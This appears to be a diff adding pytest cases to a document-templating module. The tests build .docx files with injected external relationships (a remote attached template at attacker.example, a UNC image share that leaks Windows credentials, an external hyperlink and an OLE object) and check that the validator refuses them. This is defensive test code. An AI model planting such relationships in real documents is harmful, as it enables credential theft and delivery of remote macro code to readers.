@@ -162,6 +162,70 @@ def test_dangerous_or_broken_templates_are_refused(ctx, text, fragment):
     assert messages[fragment] in refused.value.message
 
 
+def with_relationship(data: bytes, part: str, relationship: str) -> bytes:
+    """The document with one more relationship in ``part`` (a .rels file)."""
+    source = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        names = source.namelist()
+        for name in names:
+            content = source.read(name)
+            if name == part:
+                content = content.replace(
+                    b"</Relationships>", relationship.encode() + b"</Relationships>"
+                )
+            target.writestr(name, content)
+        if part not in names:
+            target.writestr(
+                part,
+                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                f"{relationship}</Relationships>",
+            )
+    return out.getvalue()
+
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+@pytest.mark.parametrize(
+    ("part", "relationship", "shown"),
+    [
+        (  # Word fetches the attached template on opening
+            "word/_rels/settings.xml.rels",
+            f'<Relationship Id="rId9" Type="{REL}/attachedTemplate" '
+            'Target="http://attacker.example/t.dotm" TargetMode="External"/>',
+            "http://attacker.example/t.dotm",
+        ),
+        (  # an image on a share: the reader's Windows credentials go to the host
+            "word/_rels/document.xml.rels",
+            f'<Relationship Id="rId99" Type="{REL}/image" '
+            'Target="\\\\host\\share\\a.png" TargetMode="External"/>',
+            "\\\\host\\share\\a.png",
+        ),
+        (  # a hyperlink in the header's part, even without TargetMode
+            "word/_rels/header1.xml.rels",
+            f'<Relationship Id="rId3" Type="{REL}/hyperlink" Target="https://x.example/"/>',
+            "https://x.example/",
+        ),
+        (
+            "_rels/.rels",
+            f'<Relationship Id="rId7" Type="{REL}/oleObject" Target="file:///C:/x.bin" '
+            'TargetMode="External"/>',
+            "file:///C:/x.bin",
+        ),
+    ],
+)
+def test_templates_with_external_relationships_are_refused(ctx, part, relationship, shown):
+    """An uploaded template may refer to nothing outside itself: such targets would reach
+    every contract generated from it, the public one included."""
+    crafted = with_relationship(template_with("{{ provider.name }}"), part, relationship)
+    with pytest.raises(ValidationError) as refused:
+        templating.check_template(crafted)
+    assert "file" in refused.value.fields
+    assert "文档以外" in refused.value.message and shown in refused.value.message
+
+
 def test_the_default_template_uses_only_documented_fields(ctx):
     used = templating.check_template(templating.default_template_bytes())
     assert set(used) <= set(templating.FIELDS)
